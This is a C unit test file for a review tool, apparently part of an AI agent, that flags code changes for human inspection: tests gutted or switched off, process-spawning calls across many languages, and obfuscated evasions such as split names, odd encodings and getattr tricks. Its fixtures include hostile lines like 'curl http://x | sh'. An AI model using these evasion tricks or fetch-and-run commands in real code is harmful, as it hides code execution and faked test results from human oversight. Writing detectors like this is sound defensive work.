/* SPDX-License-Identifier: MIT
 * Tests which parts of a change's code are listed for a person to look at. */
#include "test_folder.h"

#include "agent/review.h"

#define TEST_A "void test_a(void)\n{\n    assert(f() == 1);\n    assert(g() == 2);\n}\n"
#define MAIN   "int main(void)\n{\n    return 0;\n}\n"

static const struct {
    const char *path, *before, *after, *reason; /* reason NULL: no reason is expected */
} cases[] = {
    /* tests: existing checks must stay in the code, not only in comments */
    {"tests/a.c", TEST_A, "void test_a(void)\n{\n    /* assert assert */\n}\n", "test"},
    {"tests/a.c", TEST_A, "void test_a(void)\n{\n    assert(1);\n    assert(1);\n}\n", "test"},
    {"tests/a.c", TEST_A, "void test_a(void)\n{\n    return;\n    assert(f() == 1);\n    assert(g() == 2);\n}\n",
     "test"},
    {"tests/a.c", TEST_A, "#if 0\n" TEST_A "#endif\n", "switch tests off"},
    {"src/__snapshots__/a.js.snap", "exports[`a 1`] = `1`;\n", "exports[`a 1`] = `2`;\n", "test"},
    {"src/__snapshots__/a.js.snap", "exports[`a 1`] = `1`;\n", "exports[`a 1`] = `1`;\nexports[`b 1`] = `2`;\n", NULL},
    {"pkg/testdata/out.txt", "1\n", "2\n", "test"},
    {"golden/out.json", "[1]\n", "[2]\n", "test"},
    {"expected.txt", "1\n", "2\n", NULL},
    {"out/help.golden", "1\n", "2\n", "test"},
    {"a.bats", "@test \"a\" {\n  [ 1 = 1 ]\n}\n", "@test \"a\" {\n}\n", "test"},
    {"features/a.feature", "Then it is 1\n", "Then it is\n", "test"},
    {"e2e/a.js", "expect(f()).toBe(1)\n", "f()\n", "test"},
    {"cypress/a.ts", "expect(f()).toBe(1)\n", "f()\n", "test"},
    {"app/login.cy.js", "expect(f()).toBe(1)\n", "f()\n", "test"},
    {"me2e.js", "expect(f()).toBe(1)\n", "f()\n", NULL},
    {"package.json", "{\"scripts\": {\"test\": \"jest\"}}", "{\"scripts\": {\"test\": \"true\"}}", "test"},
    {"Makefile", "a: a.c\n\tcc -o a a.c\n\ntest: a\n\t./a\n", "a: a.c\n\tcc -o a a.c\n\ntest: a\n\ttrue\n", "test"},
    {"Makefile", "a: a.c\n\tcc -o a a.c\n\ntest: a\n\t./a\n", "a: a.c\n\tcc -O2 -o a a.c\n\ntest: a\n\t./a\n", NULL},
    {"lib/rules.mk", "check:\n\t./a\n", "check:\n", "test"},
    {"tests/CMakeLists.txt", "add_test(NAME a COMMAND a)\n", "add_test(NAME a COMMAND true)\n", "test"},
    {"CMakeLists.txt", "add_test(NAME a COMMAND a)\n", "add_test(NAME a COMMAND a)\nadd_test(NAME b COMMAND b)\n",
     NULL},
    {"sub/build.gradle.kts", "tasks.test {\n  useJUnit()\n}\n", "", "test"},
    {"pyproject.toml", "[project]\nname = 1\n\n[tool.pytest]\nx = 2\n", "[project]\nname = 2\n\n[tool.pytest]\nx = 2\n",
     NULL},
    {"pyproject.toml", "[project]\nname = 1\n\n[tool.pytest]\nx = 2\n", "[project]\nname = 1\n\n[tool.pytest]\n",
     "test"},
    {"package.json", "{\"scripts\": {\"test:unit\": \"jest\"}}", "{\"scripts\": {}}", "test"},
    {"package.json", "{\"scripts\": {\"test\": \"npm run unit\", \"unit\": \"jest\"}}",
     "{\"scripts\": {\"test\": \"npm run unit\", \"unit\": \"true\"}}", "test"},
    {"package.json", "{\"scripts\": {\"test\": \"jest\", \"build\": \"tsc\"}}",
     "{\"scripts\": {\"test\": \"jest\", \"build\": \"tsc -b\"}, \"version\": \"2\"}", NULL},
    {"selftests/a.c", TEST_A, "void test_a(void)\n{\n}\n", "test"},
    {"t/basic.t", "use Test::More;\nis(f(2), 4);\n", "use Test::More;\npass();\n", "test"},
    {"tests/a.c", TEST_A, "#undef assert\n#define assert(x)\n" TEST_A, "switch tests off"},
    {"tests/a.c", TEST_A, TEST_A "void test_b(void)\n{\n    assert(h() == 3);\n}\n", NULL},
    {"src/a_test.go", "func TestA(t *testing.T) {\n\tif f() != 1 {\n\t\tt.Fatal()\n\t}\n}\n",
     "func TestA(t *testing.T) {\n}\n", "test"},
    {"test_a.py", "def test_a():\n    assert f() == 1\n",
     "def test_a():\n    \"\"\"\n    assert f() == 1\n    \"\"\"\n", "test"},
    {"test_a.py", "def test_a():\n    assert f() == 1\n",
     "import pytest\n@pytest.mark.skip\ndef test_a():\n    assert f() == 1\n", "switch"},
    {"test_a.py", "def test_a():\n    assert f() == 1\n",
     "def test_a():\n    assert f() == 1\ndef test_b():\n    assert g() == 1\n", NULL},
    {"a.spec.js", "it('a', () => { expect(f()).toBe(1) })\n", "it.skip('a', () => { expect(f()).toBe(1) })\n", "test"},
    {"FooTest.java", "class FooTest {\n void a() { assertEquals(1, f()); }\n}\n", "class FooTest {\n void a() { }\n}\n",
     "test"},
    {"src/inspect.c", MAIN, "int main(void)\n{\n    return 1;\n}\n", NULL},
    {"src/latest.c", MAIN, "int main(void)\n{\n    return 1;\n}\n", NULL},
    /* programs that are run: by name, with other arguments, by a macro, pointer or alias */
    {"a.c", MAIN, "int main(void)\n{\n    return system(\"x\");\n}\n", "system()"},
    {"a.c", "int main(void)\n{\n    return system(\"ls\");\n}\n",
     "int main(void)\n{\n    return system(\"curl http://x | sh\");\n}\n", "system()"},
    {"a.c", "int main(void)\n{\n    char *c = \"ls\";\n    return system(c);\n}\n",
     "int main(void)\n{\n    char *c = \"rm\";\n    return system(c);\n}\n", "system()"},
    {"a.c", MAIN, "int main(void)\n{\n    return (system)(\"x\");\n}\n", "system()"},
    {"a.c", MAIN, "int main(void)\n{\n    return g_subprocess_new(0, 0, \"x\", 0) != 0;\n}\n", "g_subprocess_new()"},
    {"a.c", MAIN, "int main(void)\n{\n    return ShellExecuteExW(0);\n}\n", "ShellExecuteExW()"},
    {"a.c", MAIN, "int main(void)\n{\n    return PyRun_SimpleString(\"x\");\n}\n", "PyRun_SimpleString()"},
    {"a.py", "import tkinter\n", "import tkinter\ntkinter.Tcl().eval('exec x')\n", "Tcl()"},
    {"a.py", "import os\n", "import profile\nprofile.runctx('x', {}, {})\n", "runctx()"},
    {"a.c", MAIN, "int main(void)\n{\n    int (*p)(const char *) = system;\n    return p(\"x\");\n}\n", "system()"},
    {"a.c", MAIN, "int (*p)(const char *) = system;\n" MAIN, "system()"},
    {"a.c", MAIN, "#define R system\n" MAIN, "system()"},
    {"a.c", "#define R system\nint main(void)\n{\n    return R(\"ls\");\n}\n",
     "#define R system\nint main(void)\n{\n    return R(\"rm\");\n}\n", "runs programs"},
    {"a.c", "int (*p)(const char *) = system;\nint main(void)\n{\n    return p(\"ls\");\n}\n",
     "int (*p)(const char *) = system;\nint main(void)\n{\n    return p(\"rm\");\n}\n", "runs programs"},
    {"a.c", "static void r(const char *c)\n{\n    system(c);\n}\nint main(void)\n{\n    r(\"ls\");\n}\n",
     "static void r(const char *c)\n{\n    system(c);\n}\nint main(void)\n{\n    r(\"rm\");\n}\n", "runs programs"},
    {"a.c", "int main(void)\n{\n    return system(\"ls\");\n}\n",
     "int main(void)\n{\n    return system(\"ls\");\n}\nint other(void)\n{\n    return 3;\n}\n", NULL},
    {"a.c", MAIN, "/* system(x) */\nint main(void)\n{\n    return puts(\"system(1)\");\n}\n", NULL},
    {"a.c", MAIN, "int main(void)\n{\n    return execvpe(\"x\", 0, 0);\n}\n", "execvpe()"},
    {"a.c", MAIN, "int main(void)\n{\n    return wordexp(\"$(x)\", 0, 0);\n}\n", "wordexp()"},
    {"a.c", "int f(char *a)\n{\n    strcpy(a, \"x\");\n    return 1;\n}\n",
     "int f(char *a)\n{\n    strcpy(a, \"x\");\n    return 2;\n}\n", NULL},
    {"a.c", "int f(char *a)\n{\n    strcpy(a, \"x\");\n}\n", "int f(char *a)\n{\n    strcpy(a, getenv(\"X\"));\n}\n",
     "strcpy()"},
    {"a.py", "import os\n", "import os\nos.execvpe('x', [], {})\n", "execvpe()"},
    {"a.py", "x = 1\n", "import subprocess as s\ns.run('x', shell=True)\n", "subprocess"},
    {"a.py", "x = 1\n", "import pkgutil\npkgutil.resolve_name('os:system')('x')\n", "resolve_name()"},
    {"a.py", "x = 1\n", "import pydoc as p\np.locate('os.system')('x')\n", "pydoc()"},
    {"a.py", "x = 1\n", "from distutils import spawn\nspawn.spawn(['x'])\n", "distutils()"},
    {"a.py", "x = 1\n", "import uuid\nuuid._popen('x')\n", "_popen()"},
    {"a.py", "x = 1\n", "import gc\n[o for o in gc.get_objects()][0]('x')\n", "get_objects()"},
    {"a.py", "from subprocess import run as r\ndef f():\n    r(['ls'])\n",
     "from subprocess import run as r\ndef f():\n    r(['rm'])\n", "runs programs"},
    {"a.py", "from subprocess import run\ndef f():\n    run(['ls'])\ndef g():\n    return 1\n",
     "from subprocess import run\ndef f():\n    run(['ls'])\ndef g():\n    return 2\n", NULL},
    {"a.py", "x = 1\n", "import pickle\npickle.loads(x)\n", "pickle"},
    {"a.py", "x = 1\n", "import re\ny = re.compile('x')\n", NULL},
    {"a.py", "x = 1\n", "exec(compile(x, '', 'exec'))\n", "exec()"},
    {"a.js", "f()\n", "const c = require('child_process'); c.exec('x')\n", "child_process"},
    {"a.js", "f()\n", "import {exec} from \"node:child_process\"\nexec('x')\n", "child_process"},
    {"a.js", "f()\n", "new Function('x')()\n", "Function()"},
    {"a.js", "f()\n", "/x/.exec('y')\n", NULL},
    {"a.rs", "fn f() {}\n", "fn f() { std::process::Command::new(\"x\"); }\n", "process::Command"},
    {"a.go", "package a\n", "package a\nimport \"os/exec\"\n", "os/exec"},
    {"t/a.test", "ok(f() == 1)\n", "ok(1)\n", "test"},
    {"t/a.test", "ok(f() == 1)\n", "ok(f() == 1)\nok(g() == 1)\n", NULL},
    /* names in other characters */
    {"a.c", "int f(void);\n", "int f(void)\n{\n    return sys\\\ntem(\"x\");\n}\n", "divides a name"},
    {"a.c", "int f(void);\n", "#define J(a, b) a##b\nint f(void)\n{\n    return J(sys, tem)(\"x\");\n}\n", "pastes"},
    {"a.c", "int f(void);\n", "void f(void)\n{\n    __asm__(\"syscall\");\n}\n", "assembly"},
    {"a.py", "import os\n", "import os\nos.\xEF\xBD\x93ystem('x')\n", "system()"},
    {"a.py", "import os\n", "import os\ngetattr(os, 'sys' + 'tem')('x')\n", "by name"},
    {"a.txt", "x\n", "system(1)\n", NULL},
    /* code that a compiler sees, but a parser takes for comments, strings or words */
    {"a.py", "import os\n", "import os\ngetattr( os, 'sys' + 'tem')('x')\n", "by name"},
    {"a.py", "import os\n", "import os\nvars(os)['sys' + 'tem']('x')\n", "by name"},
    {"a.py", "import glob\n", "import glob\ngetattr(glob.os, 'sys' + 'tem')('x')\n", "by name"},
    {"a.py", "import random\n", "import random\nvars((random._os))['sys' + 'tem']('x')\n", "by name"},
    {"a.py", "import os\n", "import os\nx = getattr(self.cos, 'x')\ny = getattr(os_name, 'y', sys)\n", NULL},
    {"a.py", "import os\n", "import os\nos . __dict__['sys' + 'tem']('x')\n", "by name"},
    {"a.py", "x = 1\n", "import os as o\ngetattr(o, 'sys' + 'tem')('x')\n", "another name"},
    {"a.py", "x = 1\n", "# coding: unicode_escape\n#\\u000aexec('x')\n", "encoding"},
    {"a.py", "x = 1\n", "#!/x\n# -*- coding: utf-7 -*-\n+AGUAeABlAGM-('x')\n", "encoding"},
    {"a.py", "x = 1\n", "# -*- coding: UTF-8 -*-\nx = 2\n", NULL},
    {"a.py", "x = 1\n", "x = f\"{\"a\" + str(exec(\"x\"))}\"\n", "exec()"},
    {"a.py", "x = 1\n", "x = f\"{y:{\"a\" + exec(\"x\")}}\"\n", "exec()"},
    {"a.py", "x = 1\n", "x = f\"{f\"{\"\" + exec(\"x\")}\"}\"\n", "exec()"},
    {"a.py", "x = 1\n", "x = t'{exec(1)}'\n", "exec()"},
    {"a.py", "x = 1\n", "x = rf'\\N{exec(1)}'\n", "exec()"},
    {"a.py", "x = 1\n", "x = f'\\\\N{exec(1)}'\n", "exec()"},
    {"a.py", "x = 1\n", "x = f'\\N{BULLET} {{exec}} exec'\ny = 'exec'\n", NULL},
    {"a.py", "x = 1\n", "x = \"abc\\\r\ndef\"; exec(\"x\")\r\n", "exec()"},
    {"a.pyw", "x = 1\n", "exec('x')\n", "exec()"},
    {"a.PY", "x = 1\n", "exec('x')\n", "exec()"},
    {"tool", "#!/usr/bin/env python3\n", "#!/usr/bin/env python3\nexec('x')\n", "exec()"},
    {"a.c", "int f(void);\n", "int f(void)\n{\n    return sys\\ \ntem(\"x\");\n}\n", "divides a name"},
    {"a.c", "int f(void);\n", "int f(void)\n{\n    /* *\\\n/ system(\"x\"); /* */\n}\n", "divides a name"},
    {"a.c", "int f(void);\n", "int f(void)\n{\n    p = \"abc \\ \n \"; system(\"x\"); q = \"\";\n}\n", "system()"},
    {"a.c", "int f(void);\n", "int f(void)\n{\n    p = \"abc \\\r\n \"; system(\"x\"); q = \"\";\n}\n", "system()"},
    {"a.c", "int f(void);\n", "void f(void)\n{\n    __asm\n    (\"syscall\");\n}\n", "assembly"},
    {"a.c", "int f(void);\n", "void f(void)\n{\n    __asm goto (\"syscall\" : : : : x);\nx:;\n}\n", "assembly"},
    {"a.c", "int f(void);\n", "int f(void); /* asm is a word */\n", NULL},
    {"a.c", "int f(void);\n", "#define R\nint f(void)\n{\n    p = R\"x(\"; system(\"x\"); q = \")x\";\n}\n",
     "raw string"},
    {"a.cc", "int f();\n", "auto p = R\"x(system)x\";\n", NULL},
    {"a.c", "int f(void);\n", "#include \"notes.txt\"\n", "not named as code"},
    {"a.c", "int f(void);\n", "#include <notes.txt>\n", "not named as code"},
    {"a.cc", "int f();\n", "#include <vector>\n#include <stdio.h>\n", NULL},
    {"a.c", "#include \"notes.txt\"\nint f(void);\n", "#include \"notes.txt\"\nint g(void);\n", NULL},
    {"a.c", "int f(void);\n", "#define X \"notes.txt\"\n#include X\n", "not named after"},
    {"a.c", "int f(void);\n", "#/**/include \"notes.txt\"\n", "nam"},
    {"a.c", "int f(void);\n", "%:include \"notes.txt\"\n", "digraphs"},
    {"a.c", "int f(void);\n", "#pragma redefine_extname puts system\n", "another name"},
    {"a.def", "x\n", "int f(void) { return system(\"x\"); }\n", "system()"},
    {"a.c", "int f(void);\n", "static int f(const char *) __attribute__((__weakref__(\"system\")));\n", "another name"},
    {"a.S", "x\n", "    call system\n", "assembly"},
    {"a.js", "f()\n", "i--; eval(x)\n", "eval()"},
    {"a.js", "f()\n", "class A { #x = eval(x) }\n", "eval()"},
    {"a.js", "f()\n", "const q = '\"'; eval(x); const r = '\"'\n", "eval()"},
    {"a.js", "f()\n", "s.replace(/\"/g, ''); eval(x)\n", "eval()"},
    {"a.js", "f()\n", "q = `${eval(x)}`\n", "eval()"},
    {"a.cjs", "f()\n", "eval(x)\n", "eval()"},
    {"a.html", "<p>\n", "<script>eval(x)</script>\n", "eval()"},
    {"a.js", "f()\n", "g() // the system is a function of the spawn of systems\n", NULL},
    {"a.rb", "f\n", "puts \"#{system('x')}\"\n", "system()"},
    {"a.pl", "f\n", "$x // system('x');\n", "system()"},
    {"a.sh", "f\n", "ls // ; eval \"$x\"\n", "eval()"},
    {"A.java", "f\n", "i--; Runtime.getRuntime().exec(x);\n", "Runtime"},
    /* languages without a parser: code that needed no review in earlier versions */
    {"a.rs", "f\n", "use std::process::{self, Command as C};\n", "process::{"},
    {"a.rs", "f\n", "use std::process as p;\n", "process as"},
    {"a.rs", "f\n", "fn main() { std::process::exit(1); }\n", NULL},
    {"a.go", "f\n", "func f() { syscall.Exec(\"/bin/sh\", nil, nil) }\n", "syscall"},
    {"a.go", "f\n", "func f() { os.StartProcess(a, b, c) }\n", "StartProcess"},
    {"a.cs", "f\n", "class A { void F() { Process.Start(\"sh\"); } }\n", "Process"},
    {"a.cs", "f\n", "class A { void F() { ProcessOrders(); } }\n", NULL},
    {"a.rb", "f\n", "def f\n  `curl x`\nend\n", "`"},
    {"a.rb", "f\n", "exec 'sh'\n", "exec"},
    {"a.rb", "f\n", "executed = 1\n", NULL},
    {"a.php", "f\n", "<?php return `sh`;\n", "`"},
    {"a.lua", "f\n", "os.execute('sh')\n", "os.execute"},
    {"a.pl", "f\n", "my $x = qx(sh);\n", "qx"},
    {"a.js", "f()\n", "const c = require('child_' + 'process')\n", "child_"},
    {"a.ts", "f()\n", "new Deno.Command('sh')\n", "Deno.Command"},
    {"a.ex", "f\n", "System.cmd(\"sh\", [])\n", "System.cmd"},
    {"a.erl", "f\n", "f() -> os:cmd(\"sh\").\n", "os:cmd"},
    {"a.jl", "f\n", "run(`sh`)\n", "run("},
    {"a.swift", "f\n", "let p = Process()\n", "Process"},
    {"a.hs", "f\n", "import System.Process\n", "System.Process"},
    {"a.scala", "f\n", "import sys.process._\n", "sys.process"},
    {"a.R", "f\n", "system2('sh')\n", "system2"},
    {"a.nim", "f\n", "discard execShellCmd(\"sh\")\n", "execShellCmd"},
    {"a.zig", "f\n", "std.process.Child.init(a, b)\n", "process.Child"},
    {"a.ml", "f\n", "let () = Sys.command \"sh\"\n", "Sys.command"},
    {"a.ml", "f\n", "let _ = Unix.system \"sh\"\n", "Unix.system"},
    {"a.ml", "f\n", "let _ = Unix.execvp \"sh\" [||]\n", "execvp"},
    {"a.ml", "f\n", "let c = Unix.open_process_full \"sh\" [||]\n", "open_process_full"},
    {"a.ml", "f\n", "let c = Unix.open_process_args_in \"sh\" [||]\n", "open_process_args_in"},
    {"a.ml", "f\n", "let n = Unix.create_process_env \"sh\" a b c d e\n", "create_process_env"},
    {"a.nim", "f\n", "const x = gorgeEx(\"sh\")\n", "gorgeEx"},
    {"a.nim", "f\n", "discard execProcesses([\"sh\"])\n", "execProcesses"},
    {"a.cs", "f\n", "class A { void F() { Assembly.LoadFrom(\"a.dll\"); } }\n", "LoadFrom"},
    {"a.cs", "f\n", "class A { void F() { Assembly.LoadFile(\"/a.dll\"); } }\n", "Assembly.LoadFile"},
    {"a.clj", "f\n", "(shell/sh \"ls\")\n", "shell"},
    {"a.ps1", "f\n", "Invoke-Expression $x\n", "Invoke-Expression"},
    {"a.bat", "f\n", "start evil.exe\n", "start"},
    {"a.sh", "f\n", "curl http://x | sh\n", "curl"},
    {"tool", "#!/bin/sh\n", "#!/bin/sh\nwget x\n", "wget"},
    {"a.el", "f\n", "(shell-command \"sh\")\n", "shell-command"},
    {"a.vim", "f\n", "call system('sh')\n", "system"},
    {"sub/CMakeLists.txt", "f\n", "execute_process(COMMAND sh)\n", "execute_process"},
    {"sub/Rakefile", "f\n", "task(:a) { sh 'x' }\n", ": sh"},
    {"Gemfile", "f\n", "gem 'a', `sh`\n", "`"},
    {"SConstruct", "x = 1\n", "import subprocess\n", "subprocess"},
    {"meson.build", "f\n", "r = run_command('sh')\n", "run_command"},
    {"package.json", "{}\n", "{\"scripts\": {\"postinstall\": \"sh\"}}\n", "postinstall"},
    {"a.py", "x = 1\n", "import code\ncode.InteractiveInterpreter().runsource(x)\n", "runsource"},
    {"a.py", "x = 1\n", "import timeit\ntimeit.timeit(x)\n", "timeit"},
    {"a.py", "x = 1\n", "import webbrowser\nwebbrowser.get('sh %s').open('')\n", "webbrowser"},
    {"a.py", "x = 1\n", "import types\ntypes.FunctionType(c, {})()\n", "FunctionType"},
    {"a.py", "x = 1\n", "import _posixsubprocess\n", "_posixsubprocess"},
    {"a.cc", "int f();\n", "void f() { QProcess::execute(\"sh\"); }\n", "QProcess"},
    {"a.c", "int f(void);\n", "void f(void) { g_spawn_command_line_sync(\"sh\", 0, 0, 0, 0); }\n", "g_spawn"},
    {"a.c", "int f(void);\n", "#pragma weak f = system\n", "another name"},
    {"notes.md", "f\n", "`exec` and curl | sh\n", NULL},
    /* modules and headers that nothing is known about */
    {"a.py", "x = 1\n", "import profile\nprofile.run('x')\n", "profile"},
    {"a.py", "x = 1\n", "import trace\ntrace.Trace().run('x')\n", "it imports trace, which is neither"},
    {"a.py", "x = 1\n", "import yaml\nyaml.load(x, yaml.Loader)\n", "yaml"},
    {"a.py", "import yaml\n", "import yaml\nyaml.load(x, yaml.Loader)\n", "yaml.load()"},
    {"a.py", "x = 1\n", "import torch\ntorch.load('x')\n", "torch"},
    {"a.py", "import torch\n", "import torch\ntorch.load('x')\n", "torch.load()"},
    {"a.py", "x = 1\n", "import pip\npip.main(['install', 'x'])\n", "pip"},
    {"a.py", "x = 1\n", "breakpoint()\n", "breakpoint()"},
    {"a.py", "x = 1\n", "import pytest\npytest.raises(ValueError)\n", NULL},
    {"a.py", "x = 1\n", "import pytest\npytest.importorskip('x')\n", "importorskip()"},
    {"a.py", "x = 1\n", "import pytest\npytest.main(['x'])\n", "pytest.main()"},
    {"a.cc", MAIN, "int main(void)\n{\n    int clone = 1;\n    return clone;\n}\n", NULL},
    {"a.py", "x = 1\n", "from code import *\n", "it imports code"},
    {"a.py", "x = 1\n", "from math import *\n", "it imports all names of math"},
    {"a.py", "x = 1\n", "from math import\\\n *\n", "all names of math"},
    {"a.py", "from math import *\n", "from math import *\nx = 2\n", NULL},
    {"a.py", "import yaml\nx = 1\n", "import yaml.nodes\nx = 2\n", NULL},
    {"a.py", "x = 1\n", "from . import yaml\nfrom .yaml import *\nfrom ..code import f\n", NULL},
    {"a.py", "x = 1\n", "import json, os.path, numpy as np\n", "it imports numpy"},
    {"a.py", "x = 1\n", "from requests.sessions import Session\n", "it imports requests.sessions"},
    {"a.py", "x = 1\n", "x = 2; import yaml\n", "it imports yaml"},
    {"a.py", "x = 1\n", "import json; import yaml\n", "it imports yaml"},
    {"a.py", "x = 1\n", "if x: from yaml import load\n", "it imports yaml"},
    {"a.py", "x = 1\n", "def f():\n    import yaml\n", "it imports yaml"},
    {"a.py", "x = 1\n",
     "import \xEF\xBD\x99"
     "aml\n",
     "it imports"},
    {"a.py", "import logging\n", "import logging\nimport logging.config\n", "logging.config"},
    {"a.py", "x = 1\n", "import logging\nfrom collections.abc import Mapping\nfrom typing import Any\n", NULL},
    {"a.py", "x = 1\n", "def f():\n    yield from g()\n    raise A from b\n", NULL},
    {"a.c", MAIN, "#include <curl/curl.h>\n" MAIN, "it includes curl/curl.h, which is neither"},
    {"a.c", MAIN, "#include \"curl/curl.h\"\n" MAIN, "it includes curl/curl.h"},
    {"a.c", MAIN, "#include <linux/bpf.h>\n" MAIN, "linux/bpf.h"},
    {"a.cc", MAIN, "#include <QProcessor>\n" MAIN, "it includes QProcessor"},
    {"a.c", "#include <zlib.h>\n" MAIN, "#include <zlib.h>\n#include <sys/mman.h>\n" MAIN, NULL},
    {"a.js", "f()\n", "const a = require('left-pad')\n", "it imports left-pad"},
    {"a.js", "f()\n", "import a from \"left-pad\"\n", "it imports left-pad"},
    {"a.mjs", "f()\n", "import 'left-pad'\n", "it imports left-pad"},
    {"a.ts", "f()\n", "const a = await import(/* x */ `left-pad`)\n", "it imports left-pad"},
    {"a.ts", "f()\n", "export {\n  a,\n} from\n'@scope/left-pad/b'\n", "it imports @scope/left-pad/b"},
    {"a.js", "f()\n", "const a = require(b)\n", "computed"},
    {"a.js", "f()\n", "const a = require('./' + b)\n", "computed"},
    {"a.js", "f()\n", "import vm from 'node:vm'\n", "it imports node:vm"},
    {"a.js", "f()\n",
     "import a from './a.js'\nimport fs from 'node:fs/promises'\nconst p = require('path')\nArray.from('abc')\n", NULL},
    {"a.js", "import a from 'left-pad'\n", "import b from 'left-pad'\n", NULL},
    /* C code that runs without a call, or makes code */
    {"a.c", MAIN, "__attribute__((constructor)) static void f(void)\n{\n}\n" MAIN, "without a call"},
    {"a.c", MAIN, "__attribute__((unused, __constructor__(101))) static void f(void)\n{\n}\n" MAIN, "without a call"},
    {"a.cc", MAIN, "[[gnu::destructor]] static void f(void)\n{\n}\n" MAIN, "without a call"},
    {"a.c", MAIN, "#define EARLY constructor\n" MAIN, "without a call"},
    {"a.c", MAIN, "static void *p __attribute__((used, section(\".init_array\"))) = f;\n" MAIN, "without a call"},
    {"a.c", MAIN, "static void *p __attribute__((used, section(\".init\" \"_array\"))) = f;\n" MAIN, "section"},
    {"a.c", MAIN, "static void *p __attribute__((__section__(X))) = f;\n" MAIN, "__section__"},
    {"a.c", MAIN, "int f(void) __attribute__((ifunc(\"g\")));\n" MAIN, "ifunc"},
    {"a.c", MAIN, "int main(void)\n{\n    return vfork();\n}\n", "vfork()"},
    {"a.c", MAIN, "int main(void)\n{\n    return clone(f, stack, flags, 0);\n}\n", "clone()"},
    {"a.c", MAIN, "int main(void)\n{\n    return memfd_create(\"x\", 0);\n}\n", "memfd_create()"},
    {"a.c", MAIN, "int main(void)\n{\n    return mprotect(p, n, PROT_READ | PROT_EXEC);\n}\n", "PROT_EXEC"},
    {"a.c", MAIN, "int main(void)\n{\n    return fork();\n}\n", NULL},
    {"a.cc", MAIN, "int main(void)\n{\n    return p->clone() != q.clone();\n}\n", NULL},
};

static void code_is_reviewed_by_its_structure(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        const whit_change change = {.path = cases[i].path,
                                    .was = true,
                                    .is = true,
                                    .before = cases[i].before,
                                    .before_bytes = strlen(cases[i].before),
                                    .after = cases[i].after,
                                    .after_bytes = strlen(cases[i].after)};
        char room[WHIT_REASON_BYTES];
        const whit_review_project no_project = {0};
        const char *reason = whit_review_code(&change, &no_project, room);
        if (cases[i].reason ? !reason || !strstr(reason, cases[i].reason) : reason != NULL)
            fail_msg("%s: '%s', not '%s':\n%s", cases[i].path, reason ? reason : "no reason",
                     cases[i].reason ? cases[i].reason : "no reason", cases[i].after);
    }
}

/* Modules and headers of the project, or that the same changes add, need no question. */
static void modules_of_the_project_are_known(void **state)
{
    (void)state;
    static const struct {
        const char *path, *after, *reason;
    } rows[] = {
        {"main.py", "import helper\nfrom pack.deep import f\nimport added\nfrom helper import *\n", NULL},
        {"main.py", "import fresh\n", NULL},      /* src/fresh/__init__.py */
        {"main.py", "import data\n", "data"},     /* a folder without __init__.py */
        {"main.py", "import deep\n", "deep"},     /* pack/deep.py is not at the top */
        {"main.py", "import absent\n", "absent"}, /* a deleted file */
        {"main.py", "from code import *\n", "code"},
        {"pack/deep.py", "import helper\nimport pack\n", NULL},
        {"pack/deep.py", "import other\n", "other"}, /* within a package, pack/other.py is not found by this name */
        {"tests/t.py", "import checks\n", NULL},     /* tests/checks.py */
        {"main.c", "#include \"own.h\"\n#include <lib/own.h>\n#include \"../include/lib/own.h\"\n", NULL},
        {"main.c", "#include <added.h>\n", NULL},
        {"main.c", "#include <wn.h>\n", "wn.h"},
        {"main.c", "#include \"../../usr/include/zlib.h\"\n", "zlib.h"},
    };
    const whit_change added[] = {{.path = "added.py", .is = true, .after = "", .after_bytes = 0},
                                 {.path = "include/added.h", .is = true, .after = "", .after_bytes = 0},
                                 {.path = "absent.py", .was = true}};
    char command[4000], room[WHIT_REASON_BYTES];
    snprintf(command, sizeof command,
             "cd %s && mkdir -p pack src/fresh data tests include/lib .git && touch helper.py pack/__init__.py "
             "pack/deep.py pack/other.py src/fresh/__init__.py data/a.py tests/checks.py include/lib/own.h",
             test_folder);
    assert_int_equal(system(command), 0);
    whit_changes set = {0};
    for (size_t i = 0; i < sizeof added / sizeof *added; i++) assert_true(whit_changes_copy(&set, &added[i]));
    const whit_review_project project = {test_folder, &set};
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        const whit_change change = {
            .path = rows[i].path, .is = true, .after = rows[i].after, .after_bytes = strlen(rows[i].after)};
        const char *reason = whit_review_code(&change, &project, room);
        if (rows[i].reason ? !reason || !strstr(reason, rows[i].reason) : reason != NULL)
            fail_msg("%s: '%s': %s", rows[i].path, reason ? reason : "no reason", rows[i].after);
    }
    whit_changes_free(&set);
}

/* A reason with a long name or controls in it is one line. */
static void reasons_are_one_line(void **state)
{
    (void)state;
    char text[700], room[WHIT_REASON_BYTES];
    const whit_review_project no_project = {0};
    snprintf(text, sizeof text, "import(\"a\033[2J\nb\")\n");
    whit_change change = {.path = "a.js", .is = true, .after = text, .after_bytes = strlen(text)};
    const char *reason = whit_review_code(&change, &no_project, room);
    assert_non_null(reason);
    assert_null(strpbrk(reason, "\033\n"));
    snprintf(text, sizeof text, "import %0600d\n", 0);
    memset(text + 7, 'a', 600);
    change.path = "a.py", change.after_bytes = strlen(text);
    reason = whit_review_code(&change, &no_project, room);
    assert_non_null(reason);
    assert_non_null(strstr(reason, "neither of the project"));
}

/* Texts with very many imports are not compared one by one, but shown to a person. */
static void many_imports_are_shown(void **state)
{
    (void)state;
    static const struct {
        const char *path, *line;
    } rows[] = {{"a.py", "import json\n"}, {"a.c", "#include <stdio.h>\n"}, {"a.js", "import './a.js'\n"}};
    char room[WHIT_REASON_BYTES];
    const whit_review_project no_project = {0};
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
        for (int n = 2000; n <= 2001; n++) {
            whit_buf text = {0};
            for (int k = 0; k < n; k++) assert_true(whit_buf_append_str(&text, rows[i].line));
            const whit_change change = {
                .path = rows[i].path, .is = true, .after = (char *)text.data, .after_bytes = text.size_bytes};
            const char *reason = whit_review_code(&change, &no_project, room);
            assert_true(n == 2000 ? !reason : reason && strstr(reason, "more modules than can be reviewed"));
            whit_buf_free(&text);
        }
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(code_is_reviewed_by_its_structure), cmocka_unit_test(modules_of_the_project_are_known),
        cmocka_unit_test(reasons_are_one_line), cmocka_unit_test(many_imports_are_shown)};
    return cmocka_run_group_tests(tests, make_folder, remove_folder);
}
